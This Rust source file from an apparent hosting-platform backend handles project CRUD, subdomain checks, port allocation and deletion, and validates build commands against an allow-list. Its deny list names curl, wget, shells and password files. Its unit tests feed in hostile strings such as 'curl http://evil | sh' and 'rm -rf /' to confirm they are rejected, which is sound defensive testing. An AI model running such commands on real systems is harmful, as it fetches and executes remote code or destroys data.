//! Project CRUD, the build-command allow-list, port allocation, and domain
//! validation (spec.md §4.1).

use std::collections::HashSet;

use paas_core::{ServiceError, ServiceResult};
use paas_deployer::{DeleteProjectRequest, Deployer};
use paas_entities::builds::{self as builds_entity, Entity as Builds};
use paas_entities::deployments::Entity as Deployments;
use paas_entities::environment_variables::Entity as EnvVars;
use paas_entities::log_entries::Entity as LogEntries;
use paas_entities::projects::{self, ActiveModel, Entity as Projects};
use sea_orm::{
    ActiveModelTrait, ActiveValue::Set, ColumnTrait, DatabaseConnection, EntityTrait, ModelTrait,
    QueryFilter, QueryOrder, TransactionTrait,
};
use tracing::warn;
use uuid::Uuid;

const ALLOWED_COMMAND_PREFIXES: &[&str] = &["npm", "yarn", "pnpm", "bun", "echo", "ls"];
const BANNED_SUBSTRINGS: &[&str] = &[
    "rm -rf",
    "sudo",
    "wget",
    "curl",
    "eval",
    "|",
    ";",
    ">",
    "<",
    "/etc/passwd",
    "/etc/shadow",
    "/bin/sh",
    "/bin/bash",
];

const RESERVED_SUBDOMAINS: &[&str] = &[
    "www", "api", "admin", "dashboard", "deploy", "git", "db", "mail", "staging", "dev",
];

const BASE_PORT: i32 = 8000;

/// Validates a project's `build_command` against the allow-list (spec.md
/// §4.1 "Build-command allow-list"). Rejects the whole command if any
/// `&&`-separated segment does not start with an allowed token, or if any
/// banned substring appears anywhere in the string.
pub fn validate_build_command(command: &str) -> ServiceResult<()> {
    for banned in BANNED_SUBSTRINGS {
        if command.contains(banned) {
            return Err(ServiceError::validation(format!(
                "build_command contains a disallowed token: {banned}"
            )));
        }
    }

    for segment in command.split("&&") {
        let segment = segment.trim();
        if segment.is_empty() {
            continue;
        }
        let starts_with_allowed = ALLOWED_COMMAND_PREFIXES
            .iter()
            .any(|prefix| segment.starts_with(prefix));
        if !starts_with_allowed {
            return Err(ServiceError::validation(format!(
                "build_command segment {segment:?} does not start with an allowed command"
            )));
        }
    }

    Ok(())
}

/// Validates a subdomain per spec.md §3: matches
/// `^[a-z0-9]([a-z0-9-]*[a-z0-9])?$` and is not in the reserved set.
pub fn validate_subdomain(subdomain: &str) -> ServiceResult<()> {
    if RESERVED_SUBDOMAINS.contains(&subdomain) {
        return Err(ServiceError::validation(format!(
            "subdomain {subdomain:?} is reserved"
        )));
    }

    let bytes = subdomain.as_bytes();
    let valid_char = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit();
    let ok = !bytes.is_empty()
        && valid_char(bytes[0])
        && valid_char(bytes[bytes.len() - 1])
        && bytes
            .iter()
            .all(|&b| valid_char(b) || b == b'-');

    if !ok {
        return Err(ServiceError::validation(format!(
            "subdomain {subdomain:?} is not a valid DNS label"
        )));
    }

    Ok(())
}

pub fn is_subdomain_available(subdomain: &str, existing: &HashSet<String>) -> bool {
    validate_subdomain(subdomain).is_ok() && !existing.contains(subdomain)
}

/// Allocates the smallest port `>= 8001` that is both greater than every
/// existing project's port and reported free by Deploy Engine (spec.md
/// §3, §4.1 "Port allocation"). An unreachable Deploy Engine fails project
/// creation outright rather than guessing a port is free.
pub async fn allocate_port(
    db: &DatabaseConnection,
    deployer: &dyn Deployer,
) -> ServiceResult<i32> {
    let max_existing = Projects::find()
        .order_by_desc(projects::Column::Port)
        .one(db)
        .await
        .map_err(|e| ServiceError::database(e.to_string()))?
        .map(|p| p.port)
        .unwrap_or(BASE_PORT);

    let mut candidate = std::cmp::max(max_existing, BASE_PORT) + 1;
    loop {
        let port_u16 = u16::try_from(candidate)
            .map_err(|_| ServiceError::validation("port range exhausted"))?;
        let available = deployer
            .check_port(port_u16)
            .await
            .map_err(|e| ServiceError::upstream("deploy-engine", e.to_string()))?;
        if available {
            return Ok(candidate);
        }
        candidate += 1;
    }
}

pub struct CreateProjectInput {
    pub name: String,
    pub repo_url: String,
    pub repo_id: Option<String>,
    pub default_branch: Option<String>,
    pub root_directory: Option<String>,
    pub build_command: String,
    pub framework: paas_core::Framework,
    pub domain: Option<String>,
    pub installation_id: Option<String>,
    pub auto_deploy: Option<bool>,
}

pub async fn create_project(
    db: &DatabaseConnection,
    deployer: &dyn Deployer,
    input: CreateProjectInput,
) -> ServiceResult<projects::Model> {
    validate_build_command(&input.build_command)?;
    if let Some(domain) = &input.domain {
        let subdomain = domain.split('.').next().unwrap_or(domain);
        validate_subdomain(subdomain)?;
    }

    let port = allocate_port(db, deployer).await?;

    let model = ActiveModel {
        id: Set(Uuid::new_v4()),
        name: Set(input.name),
        repo_url: Set(input.repo_url),
        repo_id: Set(input.repo_id),
        default_branch: Set(input.default_branch.unwrap_or_else(|| "main".to_string())),
        root_directory: Set(input.root_directory.unwrap_or_else(|| "./".to_string())),
        build_command: Set(input.build_command),
        framework: Set(input.framework.into()),
        domain: Set(input.domain),
        port: Set(port),
        installation_id: Set(input.installation_id),
        auto_deploy: Set(input.auto_deploy.unwrap_or(true)),
        created_at: sea_orm::ActiveValue::NotSet,
        updated_at: sea_orm::ActiveValue::NotSet,
    };

    model
        .insert(db)
        .await
        .map_err(|e| ServiceError::database(e.to_string()))
}

pub async fn get_project(db: &DatabaseConnection, id: Uuid) -> ServiceResult<projects::Model> {
    Projects::find_by_id(id)
        .one(db)
        .await
        .map_err(|e| ServiceError::database(e.to_string()))?
        .ok_or_else(|| ServiceError::not_found(format!("project {id}")))
}

pub async fn list_projects(db: &DatabaseConnection) -> ServiceResult<Vec<projects::Model>> {
    Projects::find()
        .order_by_asc(projects::Column::CreatedAt)
        .all(db)
        .await
        .map_err(|e| ServiceError::database(e.to_string()))
}

#[derive(Default)]
pub struct UpdateProjectInput {
    pub name: Option<String>,
    pub build_command: Option<String>,
    pub root_directory: Option<String>,
    pub auto_deploy: Option<bool>,
}

pub async fn update_project(
    db: &DatabaseConnection,
    id: Uuid,
    input: UpdateProjectInput,
) -> ServiceResult<projects::Model> {
    let existing = get_project(db, id).await?;
    if let Some(build_command) = &input.build_command {
        validate_build_command(build_command)?;
    }

    let mut model: ActiveModel = existing.into();
    if let Some(name) = input.name {
        model.name = Set(name);
    }
    if let Some(build_command) = input.build_command {
        model.build_command = Set(build_command);
    }
    if let Some(root_directory) = input.root_directory {
        model.root_directory = Set(root_directory);
    }
    if let Some(auto_deploy) = input.auto_deploy {
        model.auto_deploy = Set(auto_deploy);
    }

    model
        .update(db)
        .await
        .map_err(|e| ServiceError::database(e.to_string()))
}

/// Slugifies a project name into a candidate subdomain, used when a
/// project is created in production without an explicit domain (spec.md
/// §4.1 "optionally auto-generates domain from slugified name in
/// production").
pub fn slugify_name(name: &str) -> String {
    slug::slugify(name)
}

/// Deletes a project following the exact sequence from spec.md §4.1
/// "Project deletion sequence": (1) collect build ids, (2) best-effort
/// call to Deploy Engine cleanup, (3) transactional cascade delete of env
/// vars → deployments → logs → builds → project, (4) verify the row is
/// gone.
pub async fn delete_project(
    db: &DatabaseConnection,
    deployer: &dyn Deployer,
    project_id: Uuid,
) -> ServiceResult<()> {
    let project = get_project(db, project_id).await?;

    let build_ids: Vec<Uuid> = Builds::find()
        .filter(builds_entity::Column::ProjectId.eq(project_id))
        .all(db)
        .await
        .map_err(|e| ServiceError::database(e.to_string()))?
        .into_iter()
        .map(|b| b.id)
        .collect();

    let subdomain = project
        .domain
        .as_ref()
        .and_then(|d| d.split('.').next())
        .map(str::to_string);

    if let Err(err) = deployer
        .delete_project(DeleteProjectRequest {
            project_id,
            port: u16::try_from(project.port).ok(),
            subdomain,
            build_ids: build_ids.clone(),
        })
        .await
    {
        warn!(%project_id, %err, "deploy-engine cleanup failed during project deletion, proceeding anyway");
    }

    let txn = db
        .begin()
        .await
        .map_err(|e| ServiceError::database(e.to_string()))?;

    for build_id in &build_ids {
        LogEntries::delete_many()
            .filter(paas_entities::log_entries::Column::BuildId.eq(*build_id))
            .exec(&txn)
            .await
            .map_err(|e| ServiceError::database(e.to_string()))?;
    }

    Deployments::delete_many()
        .filter(paas_entities::deployments::Column::ProjectId.eq(project_id))
        .exec(&txn)
        .await
        .map_err(|e| ServiceError::database(e.to_string()))?;

    EnvVars::delete_many()
        .filter(paas_entities::environment_variables::Column::ProjectId.eq(project_id))
        .exec(&txn)
        .await
        .map_err(|e| ServiceError::database(e.to_string()))?;

    Builds::delete_many()
        .filter(builds_entity::Column::ProjectId.eq(project_id))
        .exec(&txn)
        .await
        .map_err(|e| ServiceError::database(e.to_string()))?;

    let deleted = project
        .clone()
        .delete(&txn)
        .await
        .map_err(|e| ServiceError::database(e.to_string()))?;

    txn.commit()
        .await
        .map_err(|e| ServiceError::database(e.to_string()))?;

    if deleted.rows_affected == 0 {
        return Err(ServiceError::database(format!(
            "project {project_id} row was not removed"
        )));
    }

    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn allow_list_accepts_known_good_commands() {
        assert!(validate_build_command("npm install && npm run build").is_ok());
        assert!(validate_build_command("bun install && bun run build").is_ok());
        assert!(validate_build_command("echo hi").is_ok());
    }

    #[test]
    fn allow_list_rejects_dangerous_commands() {
        assert!(validate_build_command("rm -rf / && npm run build").is_err());
        assert!(validate_build_command("npm run build && sudo reboot").is_err());
        assert!(validate_build_command("curl http://evil | sh").is_err());
        assert!(validate_build_command("npm run build; rm -rf /").is_err());
    }

    #[test]
    fn allow_list_rejects_segments_not_starting_with_an_allowed_command() {
        assert!(validate_build_command("node build.js").is_err());
    }

    #[test]
    fn subdomain_validation_rejects_reserved_names() {
        assert!(validate_subdomain("api").is_err());
        assert!(validate_subdomain("www").is_err());
    }

    #[test]
    fn subdomain_validation_enforces_dns_label_shape() {
        assert!(validate_subdomain("my-app").is_ok());
        assert!(validate_subdomain("-leading-hyphen").is_err());
        assert!(validate_subdomain("trailing-hyphen-").is_err());
        assert!(validate_subdomain("Has_Upper").is_err());
    }
}
